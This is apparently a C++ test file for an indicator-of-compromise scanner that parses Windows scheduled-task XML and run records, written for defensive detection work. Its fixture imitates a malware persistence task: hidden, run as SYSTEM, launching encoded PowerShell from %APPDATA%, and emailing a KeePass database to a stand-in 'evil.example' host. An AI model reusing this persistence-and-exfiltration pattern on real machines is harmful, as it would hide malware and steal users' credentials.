// Windows scheduled tasks (Task Scheduler 2.0 XML) parsed from literal files: UTF-16LE with a BOM
// as the service writes them, UTF-8, missing elements and their defaults, every action and
// trigger kind, hostile files (too big, malformed, not a task); and the TaskItem fields they give.
#include <catch2/catch.hpp>

#include "collect/wintask/task_fields.h"
#include "collect/wintask/task_run_info.h"
#include "collect/wintask/task_xml.h"
#include "core/time.h"
#include "support/little_endian.h"
#include "support/item_values.h"

namespace iocscan::collect {
namespace {

using iocscan::testing::TextsOf;
using iocscan::testing::ValuesOf;

// A task much like the ones malware registers with schtasks /create: hidden, at logon and
// daily, running PowerShell from %APPDATA%, plus a COM handler and a message.
constexpr std::string_view kPersistence = R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2024-03-01T10:15:30.1234567</Date>
    <Author>CORP\mallory</Author>
    <Description>Keeps the OneDrive client current</Description>
    <URI>\Microsoft\Windows\OneDriveUpdate</URI>
  </RegistrationInfo>
  <Triggers>
    <LogonTrigger>
      <Enabled>true</Enabled>
      <UserId>CORP\alice</UserId>
      <Delay>PT30S</Delay>
    </LogonTrigger>
    <CalendarTrigger>
      <StartBoundary>2024-03-01T09:00:00Z</StartBoundary>
      <EndBoundary>2025-03-01T09:00:00</EndBoundary>
      <Enabled>false</Enabled>
      <ExecutionTimeLimit>PT1H</ExecutionTimeLimit>
      <Repetition><Interval>PT15M</Interval></Repetition>
      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
    </CalendarTrigger>
    <EventTrigger>
      <Subscription>&lt;QueryList&gt;&lt;Query Id="0"&gt;&lt;/Query&gt;&lt;/QueryList&gt;</Subscription>
      <ValueQueries><Value name="user">Event/EventData/Data[@Name='TargetUserName']</Value></ValueQueries>
    </EventTrigger>
    <SessionStateChangeTrigger><StateChange>RemoteConnect</StateChange></SessionStateChangeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Other"><UserId>S-1-5-19</UserId></Principal>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <LogonType>ServiceAccount</LogonType>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>true</Hidden>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <RunOnlyIfNetworkAvailable>true</RunOnlyIfNetworkAvailable>
    <ExecutionTimeLimit>PT0S</ExecutionTimeLimit>
    <Priority>4</Priority>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe"</Command>
      <Arguments>-w hidden -nop -enc SQBFAFgA</Arguments>
      <WorkingDirectory>%APPDATA%\OneDrive</WorkingDirectory>
    </Exec>
    <ComHandler>
      <ClassId>{A6BA00FE-40E8-477C-B713-C64A14F16AEB}</ClassId>
      <Data><![CDATA[<x>payload</x>]]></Data>
    </ComHandler>
    <ShowMessage><Title>Update</Title><Body>Done</Body></ShowMessage>
    <SendEmail><Server>smtp.evil.example</Server><To>drop@evil.example</To><Subject>s</Subject>
      <Attachments><File>C:\Users\alice\secrets.kdbx</File></Attachments></SendEmail>
  </Actions>
</Task>
)";

// UTF-16LE bytes with a BOM, as the Schedule service writes task files.
std::string Utf16LeWithBom(std::string_view ascii_or_utf8_bmp) {
  std::string out = "\xFF\xFE";
  for (std::size_t i = 0; i < ascii_or_utf8_bmp.size(); ++i) {
    unsigned char c = static_cast<unsigned char>(ascii_or_utf8_bmp[i]);
    unsigned code = c;
    if (c >= 0xE0) {  // 3-byte UTF-8 (the BMP characters used here)
      code = ((c & 0x0F) << 12) | ((ascii_or_utf8_bmp[i + 1] & 0x3F) << 6) | (ascii_or_utf8_bmp[i + 2] & 0x3F);
      i += 2;
    } else if (c >= 0xC0) {
      code = ((c & 0x1F) << 6) | (ascii_or_utf8_bmp[i + 1] & 0x3F);
      i += 1;
    }
    out += static_cast<char>(code & 0xFF);
    out += static_cast<char>(code >> 8);
  }
  return out;
}

std::int64_t T(const char* iso) { return ParseIsoTime(iso).value(); }

TEST_CASE("a task file in UTF-16LE with a BOM: registration, principal, settings", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(Utf16LeWithBom(kPersistence));
  REQUIRE(r.ok());
  const ScheduledTask& t = r.value();
  CHECK(t.uri == "\\Microsoft\\Windows\\OneDriveUpdate");
  CHECK(t.author == "CORP\\mallory");
  CHECK(t.description == "Keeps the OneDrive client current");
  CHECK(t.date == "2024-03-01T10:15:30.1234567");
  CHECK(t.user_id == "S-1-5-18");  // the principal <Actions Context> names, not the first one
  CHECK(t.logon_type == "ServiceAccount");
  CHECK(t.run_level == "HighestAvailable");
  CHECK(t.enabled);
  CHECK(t.hidden);
  CHECK(t.execution_time_limit == "PT0S");
  CHECK(t.priority == "4");
  CHECK(t.flags == std::vector<std::string>{"TASK_FLAG_HIDDEN", "TASK_FLAG_KILL_IF_GOING_ON_BATTERIES",
                                            "TASK_FLAG_RUN_IF_CONNECTED_TO_INTERNET"});
}

TEST_CASE("every action kind; a quoted command loses its quotes", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(Utf16LeWithBom(kPersistence));
  REQUIRE(r.ok());
  const std::vector<TaskAction>& a = r.value().actions;
  REQUIRE(a.size() == 4);
  CHECK(a[0].type == "Exec");
  CHECK(a[0].command == "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  CHECK(a[0].arguments == "-w hidden -nop -enc SQBFAFgA");
  CHECK(a[0].working_directory == "%APPDATA%\\OneDrive");
  CHECK(a[1].type == "ComHandler");
  CHECK(a[1].class_id == "{A6BA00FE-40E8-477C-B713-C64A14F16AEB}");
  CHECK(a[1].data == "<x>payload</x>");
  CHECK(a[2].type == "ShowMessage");
  CHECK(a[2].message_title == "Update");
  CHECK(a[2].message_body == "Done");
  CHECK(a[2].email_body.empty());
  CHECK(a[3].type == "SendEmail");
  CHECK(a[3].email_server == "smtp.evil.example");
  CHECK(a[3].email_to == "drop@evil.example");
  CHECK(a[3].email_attachments == std::vector<std::string>{"C:\\Users\\alice\\secrets.kdbx"});
}

TEST_CASE("every trigger kind with its frequency, boundaries and details", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(kPersistence);  // the same text as UTF-8
  REQUIRE(r.ok());
  const std::vector<TaskTrigger>& t = r.value().triggers;
  REQUIRE(t.size() == 4);
  CHECK(t[0].frequency == "At logon");
  CHECK(t[0].enabled);
  CHECK(t[0].user_id == "CORP\\alice");
  CHECK(t[0].delay == "PT30S");
  CHECK(t[1].frequency == "Daily");
  CHECK_FALSE(t[1].enabled);
  CHECK(t[1].start_boundary == "2024-03-01T09:00:00Z");
  CHECK(t[1].repetition_interval == "PT15M");
  CHECK(t[1].execution_time_limit == "PT1H");
  CHECK(t[2].frequency == "On event");
  CHECK(t[2].subscription == "<QueryList><Query Id=\"0\"></Query></QueryList>");
  CHECK(t[2].value_queries == std::vector<std::string>{"user=Event/EventData/Data[@Name='TargetUserName']"});
  CHECK(t[3].frequency == "On session state change");
  CHECK(t[3].state_change == "RemoteConnect");
}

TEST_CASE("a minimal task: the schema's defaults, no principal, a UTF-8 BOM", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(
      "\xEF\xBB\xBF<Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'>"
      "<Actions><Exec><Command>C:\\x.exe</Command></Exec></Actions></Task>");
  REQUIRE(r.ok());
  const ScheduledTask& t = r.value();
  CHECK(t.author.empty());
  CHECK(t.user_id.empty());
  CHECK(t.run_level.empty());
  CHECK(t.enabled);
  CHECK_FALSE(t.hidden);
  CHECK(t.execution_time_limit == "PT72H");
  CHECK(t.priority == "7");
  CHECK(t.flags == std::vector<std::string>{"TASK_FLAG_DONT_START_IF_ON_BATTERIES",
                                            "TASK_FLAG_KILL_IF_GOING_ON_BATTERIES"});
  CHECK(t.triggers.empty());
  REQUIRE(t.actions.size() == 1);
  CHECK(t.actions[0].command == "C:\\x.exe");
  CHECK(t.actions[0].arguments.empty());
}

// What Wine's Schedule service writes for `schtasks /create /xml` (taken from a real run): UTF-8
// with a BOM, a comment before <Task>, empty <Triggers/> and <Principals/>, and an <Exec/> whose
// Command it lost.
TEST_CASE("a task file written by Wine's Schedule service", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(
      "\xEF\xBB\xBF<!-- Task definition created by Wine -->\n"
      "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
      "  <RegistrationInfo>\n    <Author>CORP\\mallory</Author>\n  </RegistrationInfo>\n"
      "  <Triggers/>\n  <Principals/>\n"
      "  <Settings>\n    <DisallowStartIfOnBatteries>true</DisallowStartIfOnBatteries>\n"
      "    <Enabled>true</Enabled>\n    <Hidden>true</Hidden>\n    <Priority>7</Priority>\n  </Settings>\n"
      "  <Actions>\n    <Exec/>\n  </Actions>\n</Task>\n");
  REQUIRE(r.ok());
  CHECK(r->author == "CORP\\mallory");
  CHECK(r->hidden);
  CHECK(r->triggers.empty());
  CHECK(r->user_id.empty());
  REQUIRE(r->actions.size() == 1);
  CHECK(r->actions[0].type == "Exec");
  CHECK(r->actions[0].command.empty());
  RecordItem item;
  AddTaskFields(r.value(), "\\probe", "C:\\windows\\system32\\Tasks\\probe", {""}, item);
  CHECK(item.Get(*terms::FindTerm("TaskItem/ActionList/Action/ExecProgramPath")) == nullptr);
}

TEST_CASE("UTF-16 without a BOM, big-endian, and non-ASCII names", "[collect][wintask]") {
  std::string le = Utf16LeWithBom("<Task><RegistrationInfo><Author>J\xC3\xBCrgen \xE2\x82\xAC</Author>"
                                  "</RegistrationInfo></Task>");
  Result<ScheduledTask> no_bom = ParseTaskXml(le.substr(2));
  REQUIRE(no_bom.ok());
  CHECK(no_bom.value().author == "J\xC3\xBCrgen \xE2\x82\xAC");
  std::string be = "\xFE\xFF";
  for (std::size_t i = 2; i + 1 < le.size(); i += 2) be += std::string{le[i + 1], le[i]};
  Result<ScheduledTask> big = ParseTaskXml(be);
  REQUIRE(big.ok());
  CHECK(big.value().author == "J\xC3\xBCrgen \xE2\x82\xAC");
}

TEST_CASE("hostile task files are refused with a message, never a crash", "[collect][wintask]") {
  Result<ScheduledTask> huge = ParseTaskXml(std::string(kMaxTaskXmlBytes + 1, ' '));
  REQUIRE_FALSE(huge.ok());
  CHECK(huge.error().message.find("refused") != std::string::npos);
  Result<ScheduledTask> broken = ParseTaskXml("<Task><Actions><Exec></Actions></Task>");
  REQUIRE_FALSE(broken.ok());
  CHECK(broken.error().message.find("not well-formed XML") != std::string::npos);
  CHECK_FALSE(ParseTaskXml("").ok());
  CHECK_FALSE(ParseTaskXml("\xFF\xFE").ok());
  CHECK_FALSE(ParseTaskXml("\xFF\xFE<").ok());  // an odd byte of UTF-16
  Result<ScheduledTask> other = ParseTaskXml("<ioc><definition/></ioc>");
  REQUIRE_FALSE(other.ok());
  CHECK(other.error().message.find("not a Task Scheduler task") != std::string::npos);
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "<a>";
  CHECK_FALSE(ParseTaskXml("<Task>" + deep).ok());
  // Entities are not expanded: a DOCTYPE is an opaque node, values stay literal.
  Result<ScheduledTask> doctype =
      ParseTaskXml("<!DOCTYPE Task [<!ENTITY a 'aaaa'>]><Task><RegistrationInfo><Author>&a;</Author>"
                   "</RegistrationInfo></Task>");
  if (doctype.ok()) CHECK(doctype.value().author.size() < 16);
}

TEST_CASE("the task path comes from the file's path below the Tasks folder", "[collect][wintask]") {
  CHECK(TaskPathOf("Microsoft\\Windows\\Defrag\\ScheduledDefrag") == "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag");
  CHECK(TaskPathOf("Updater") == "\\Updater");
  CHECK(TaskPathOf("a/b") == "\\a\\b");
  CHECK(TaskPathOf("") == "\\");
}

TEST_CASE("the TaskItem fields of a task", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(Utf16LeWithBom(kPersistence));
  REQUIRE(r.ok());
  RecordItem item;
  std::string expanded = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  AddTaskFields(r.value(), "\\Microsoft\\Windows\\OneDriveUpdate",
                "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\OneDriveUpdate", {expanded, "", "", ""}, item);
  CHECK(TextsOf(item, "TaskItem/Name") == std::vector<std::string>{"\\Microsoft\\Windows\\OneDriveUpdate"});
  CHECK(TextsOf(item, "TaskItem/Creator") == std::vector<std::string>{"CORP\\mallory"});
  CHECK(TextsOf(item, "TaskItem/Comment") == std::vector<std::string>{"Keeps the OneDrive client current"});
  REQUIRE(ValuesOf(item, "TaskItem/CreationDate").size() == 1);
  CHECK(ValuesOf(item, "TaskItem/CreationDate")[0].integer == T("2024-03-01T10:15:30Z"));
  CHECK(TextsOf(item, "TaskItem/AccountName") == std::vector<std::string>{"S-1-5-18"});
  CHECK(TextsOf(item, "TaskItem/AccountRunLevel") == std::vector<std::string>{"HighestAvailable"});
  CHECK(TextsOf(item, "TaskItem/AccountLogonType") == std::vector<std::string>{"ServiceAccount"});
  CHECK(TextsOf(item, "TaskItem/Status") == std::vector<std::string>{"Ready"});
  CHECK(TextsOf(item, "TaskItem/Flag")[0].find("TASK_FLAG_HIDDEN") != std::string::npos);
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/ActionType") ==
        std::vector<std::string>{"Exec", "ComHandler", "ShowMessage", "SendEmail"});
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/ExecProgramPath") ==
        std::vector<std::string>{"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", expanded});
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/ExecArguments") ==
        std::vector<std::string>{"-w hidden -nop -enc SQBFAFgA"});
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/ExecWorkingDirectory") ==
        std::vector<std::string>{"%APPDATA%\\OneDrive"});
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/COMClassId") ==
        std::vector<std::string>{"{A6BA00FE-40E8-477C-B713-C64A14F16AEB}"});
  CHECK(TextsOf(item, "TaskItem/ActionList/Action/EmailTo") == std::vector<std::string>{"drop@evil.example"});
  CHECK(TextsOf(item, "TaskItem/TriggerList/Trigger/TriggerFrequency") ==
        std::vector<std::string>{"At logon", "Daily", "On event", "On session state change"});
  const compile::FieldValue& enabled = ValuesOf(item, "TaskItem/TriggerList/Trigger/TriggerEnabled");
  REQUIRE(enabled.size() == 4);
  CHECK(enabled[0].integer == 1);
  CHECK(enabled[1].integer == 0);
  REQUIRE(ValuesOf(item, "TaskItem/TriggerList/Trigger/TriggerBegin").size() == 1);
  CHECK(ValuesOf(item, "TaskItem/TriggerList/Trigger/TriggerBegin")[0].integer == T("2024-03-01T09:00:00Z"));
  CHECK(ValuesOf(item, "TaskItem/TriggerList/Trigger/TriggerEnd")[0].integer == T("2025-03-01T09:00:00Z"));
  CHECK(TextsOf(item, "TaskItem/TriggerList/Trigger/TriggerUsername") == std::vector<std::string>{"CORP\\alice"});
  CHECK(TextsOf(item, "TaskItem/TriggerList/Trigger/TriggerSessionChangeType") ==
        std::vector<std::string>{"RemoteConnect"});
  CHECK(ValuesOf(item, "TaskItem/NextRunTime").empty());  // not in the file
  CHECK(ValuesOf(item, "TaskItem/MostRecentRunTime").empty());
  std::vector<report::CardField> card = item.CardFields();
  REQUIRE_FALSE(card.empty());
  CHECK(card.front().name == "Name");
  CHECK(card.back().name == "File");
}

TEST_CASE("a disabled task has the Disabled status and flag", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml("<Task><Settings><Enabled>false</Enabled></Settings></Task>");
  REQUIRE(r.ok());
  RecordItem item;
  AddTaskFields(r.value(), "\\T", "C:\\Windows\\System32\\Tasks\\T", {}, item);
  CHECK(TextsOf(item, "TaskItem/Status") == std::vector<std::string>{"Disabled"});
  CHECK(TextsOf(item, "TaskItem/Flag")[0].find("TASK_FLAG_DISABLED") != std::string::npos);
  CHECK(ValuesOf(item, "TaskItem/ActionList/Action/ExecProgramPath").empty());
}

// A DynamicInfo value as Windows 10 writes it: version 3, registered, last start, state, result,
// last end (FILETIMEs of 2024-12-30T02:40:00Z, +1 h, +1 h 5 s).
std::string DynamicInfo(std::uint32_t result, bool windows8 = true) {
  auto le = iocscan::testing::LittleEndian;
  const std::uint64_t registered = 133800000000000000;
  std::string b = le(3, 4) + le(registered, 8) + le(registered + 36000000000, 8) + le(0, 4) + le(result, 4);
  if (windows8) b += le(registered + 36050000000, 8);
  return b;
}

TEST_CASE("a TaskCache DynamicInfo value gives the last start, end and result", "[collect][wintask]") {
  std::optional<TaskRunInfo> info = ParseTaskDynamicInfo(DynamicInfo(0x80070002));
  REQUIRE(info);
  CHECK(info->registered == T("2024-12-30T02:40:00Z"));
  CHECK(info->last_run == T("2024-12-30T03:40:00Z"));
  CHECK(info->last_ended == T("2024-12-30T03:40:05Z"));
  CHECK(info->last_result == 0x80070002u);
  std::optional<TaskRunInfo> windows7 = ParseTaskDynamicInfo(DynamicInfo(1, false));
  REQUIRE(windows7);
  CHECK(windows7->last_run == T("2024-12-30T03:40:00Z"));
  CHECK_FALSE(windows7->last_ended);
  CHECK_FALSE(ParseTaskDynamicInfo(DynamicInfo(0).substr(0, 27)));
  // A task that never ran: zero times are absent, not 1601.
  std::string never(28, '\0');
  never[0] = 3;
  std::optional<TaskRunInfo> none = ParseTaskDynamicInfo(never);
  REQUIRE(none);
  CHECK_FALSE(none->registered);
  CHECK_FALSE(none->last_run);
}

TEST_CASE("the service's record of a task adds its last run and result, and a creation date", "[collect][wintask]") {
  Result<ScheduledTask> r = ParseTaskXml(
      "<Task><Actions><Exec><Command>C:\\Users\\Public\\svchost.exe</Command></Exec></Actions></Task>");
  REQUIRE(r.ok());
  ScheduledTask task = r.value();
  task.run = ParseTaskDynamicInfo(DynamicInfo(1));
  RecordItem item;
  AddTaskFields(task, "\\T", "C:\\Windows\\System32\\Tasks\\T", {}, item);
  REQUIRE(ValuesOf(item, "TaskItem/MostRecentRunTime").size() == 1);
  CHECK(ValuesOf(item, "TaskItem/MostRecentRunTime")[0].integer == T("2024-12-30T03:40:00Z"));
  REQUIRE(ValuesOf(item, "TaskItem/ExitCode").size() == 1);
  CHECK(ValuesOf(item, "TaskItem/ExitCode")[0].integer == 1);
  CHECK(ValuesOf(item, "TaskItem/CreationDate")[0].integer == T("2024-12-30T02:40:00Z"));  // no <Date> in the file
  std::vector<report::CardField> card = item.CardFields();
  REQUIRE(card.size() >= 3);
  CHECK(card[card.size() - 3].name == "MostRecentRunTime");
  CHECK(card[card.size() - 2].name == "ExitCode");
  CHECK(card.back().name == "File");

  std::string never(36, '\0');
  never[0] = 3;
  task.run = ParseTaskDynamicInfo(never);
  RecordItem idle;
  AddTaskFields(task, "\\T", "C:\\Windows\\System32\\Tasks\\T", {}, idle);
  CHECK(ValuesOf(idle, "TaskItem/MostRecentRunTime").empty());
  CHECK(ValuesOf(idle, "TaskItem/ExitCode").empty());  // a result of a task that never ran means nothing
}

}  // namespace
}  // namespace iocscan::collect
